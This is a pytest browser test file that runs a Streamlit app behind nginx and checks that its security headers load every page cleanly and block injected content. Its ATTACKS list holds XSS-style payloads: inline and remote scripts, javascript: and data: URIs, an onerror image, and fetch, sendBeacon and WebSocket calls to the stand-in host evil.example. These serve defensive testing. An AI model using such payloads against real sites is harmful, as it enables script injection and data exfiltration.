"""The headers that nginx sends (deploy/headers.conf): every page works, what is slipped in is stopped."""

import re
import shutil
import socket
import subprocess
import time
from collections.abc import Iterator
from itertools import cycle
from urllib.error import HTTPError, URLError
from urllib.request import urlopen

import pytest
from playwright.sync_api import Browser, Page

from corridors import paths
from scripts import headers
from tests.browser.conftest import READY, Traffic, Visit

pytestmark = pytest.mark.browser

PAGES = sorted(file.stem for file in (paths.ROOT / "pages").glob("*.py"))
WITHOUT_MAP = {"policy", "brief", "about"}
SITE = """daemon off; pid {folder}/pid; error_log {folder}/log; worker_processes 1; events {{}}
http {{
  access_log off; client_max_body_size 60m;
  client_body_temp_path {folder}/a; proxy_temp_path {folder}/b; fastcgi_temp_path {folder}/c;
  uwsgi_temp_path {folder}/d; scgi_temp_path {folder}/e;
  map $http_upgrade $upgrading {{ default upgrade; '' close; }}
  server {{
    listen 127.0.0.1:{port};
    include {headers};
    location / {{
      proxy_pass {app}; proxy_http_version 1.1; proxy_set_header Host $http_host;
      proxy_set_header Upgrade $http_upgrade; proxy_set_header Connection $upgrading;
    }}
  }}
}}
"""


@pytest.fixture(scope="module")
def guarded(app: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app behind an nginx that adds the headers."""
    program = shutil.which("nginx", path="/usr/sbin:/usr/bin")
    assert program, "nginx is missing: run make test, which installs it"
    folder = tmp_path_factory.mktemp("nginx")
    folder.chmod(0o755)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    site = folder / "site.conf"
    site.write_text(SITE.format(folder=folder, port=port, headers=headers.HEADERS, app=app))
    server = subprocess.Popen([program, "-c", site, "-p", folder, "-e", folder / "log"])
    try:
        yield _ready(f"http://127.0.0.1:{port}", server)
    finally:
        server.terminate()
        server.wait(timeout=20)


def _ready(address: str, server: subprocess.Popen[bytes]) -> str:
    for _ in range(100):
        assert server.poll() is None, "nginx ended at once"
        try:
            with urlopen(f"{address}/_stcore/health", timeout=2):  # noqa: S310 - our own server
                return address
        except (URLError, ConnectionError):
            time.sleep(0.1)
    raise AssertionError(f"{address} did not answer")


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    context = chromium.new_context(viewport={"width": 1400, "height": 900}, locale="zh-CN")
    context.add_init_script(
        "window.stopped = []; document.addEventListener('securitypolicyviolation',"
        " e => window.stopped.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`))"
    )
    yield context.new_page()
    context.close()


def stopped(page: Page) -> list[str]:
    return [each for frame in page.frames for each in frame.evaluate("window.stopped || []")]


def test_the_scripts_inside_pages_are_named() -> None:
    """Fails when Streamlit's page or a script of ours changes: then run ``python scripts/headers.py``."""
    wanted = headers.hashes()
    assert len(wanted) >= 5
    assert re.findall(r"'sha256-[^']+'", headers.HEADERS.read_text(encoding="utf-8")) == wanted


def test_headers_are_sent(guarded: str) -> None:
    for path in ("/", "/policy", "/_stcore/health", "/app/static/none.json", "/static/none.js"):
        try:
            sent = urlopen(guarded + path, timeout=5).headers  # noqa: S310 - our own server
        except HTTPError as error:
            sent = error.headers
        policy = sent["Content-Security-Policy"]
        scripts = re.search(r"script-src ([^;]*)", policy)
        assert scripts
        assert "unsafe-inline" not in scripts[1], path
        assert "'unsafe-eval'" not in scripts[1], path
        assert "frame-ancestors 'self'" in policy
        assert sent["X-Content-Type-Options"] == "nosniff"
        assert sent["X-Frame-Options"] == "SAMEORIGIN"
        assert sent["Referrer-Policy"] == "same-origin"
        assert "geolocation=()" in sent["Permissions-Policy"]


def test_every_page_works_under_them(guarded: str, page: Page) -> None:
    traffic = Traffic()
    traffic.watch(page.context, page)
    visit = Visit(page, traffic, guarded)
    langs = cycle(("zh", "en"))
    for name in PAGES:
        page.goto(
            f"{guarded}/{'' if name == 'map' else name}?select=impl-13&lang={next(langs)}",
            wait_until="commit",
        )
        page.wait_for_selector(".st-key-masthead a")
        if name not in WITHOUT_MAP:
            visit.map.wait_for_selector(READY)
        visit.settle()
        assert stopped(page) == [], name
    assert traffic.outside == []
    assert not [error for error in traffic.errors if "404" not in error]


def test_a_file_is_taken_under_them(guarded: str, page: Page) -> None:
    page.goto(f"{guarded}/own")
    page.wait_for_selector("input[type=file]", state="attached")
    list_ = {"name": "a.csv", "mimeType": "text/csv", "buffer": "名称,国家\n甲,肯尼亚\n".encode()}
    page.set_input_files("input[type=file]", [list_])
    page.wait_for_selector("text=检查全部行")
    assert stopped(page) == []


SLIP = "document.body.insertAdjacentHTML('beforeend', `{}`)"
SCRIPT = "document.body.append(Object.assign(document.createElement('script'), {{{}}}))"


ATTACKS = (
    SCRIPT.format("textContent: 'window.ran = 1'"),
    SCRIPT.format("src: 'https://evil.example/x.js'"),
    SCRIPT.format("src: 'data:text/javascript,window.ran=1'"),
    SLIP.format('<img src=data:, onerror="window.ran = 1">'),
    SLIP.format('<iframe src="javascript:parent.ran = 1"></iframe>'),
    SLIP.format("<iframe src=https://evil.example></iframe>"),
    SLIP.format("<object data='data:text/html,x'></object>"),
    SLIP.format("<img src=https://evil.example/x.png>"),
    SLIP.format("<link rel=stylesheet href=https://evil.example/x.css>"),
    SLIP.format("<base href=https://evil.example/>"),
    SLIP.format("<a id=x href='javascript:window.ran = 1'></a>") + "; x.click()",
    "fetch('https://evil.example/').catch(() => 0)",
    "navigator.sendBeacon('https://evil.example/', 'x')",
    "new WebSocket('wss://evil.example/')",
    "setTimeout('window.ran = 1')",
)


def test_what_is_slipped_in_is_stopped(guarded: str, page: Page) -> None:
    page.goto(f"{guarded}/about", wait_until="commit")
    page.wait_for_selector(".st-key-masthead a")
    for attack in ATTACKS:
        page.evaluate("window.stopped.length = 0")
        page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ }} }}")
        for _ in range(40):
            page.wait_for_timeout(50)
            if page.evaluate("window.stopped.length"):
                break
        assert page.evaluate("window.stopped.length"), f"nothing stopped {attack}"
        assert page.evaluate("window.ran") is None, attack


def test_no_other_site_can_frame_the_app(guarded: str, page: Page) -> None:
    page.set_content(f"<iframe src='{guarded}/about'></iframe>")
    page.wait_for_timeout(800)
    assert len(page.frames) == 2
    assert not page.frames[1].url.startswith(guarded)
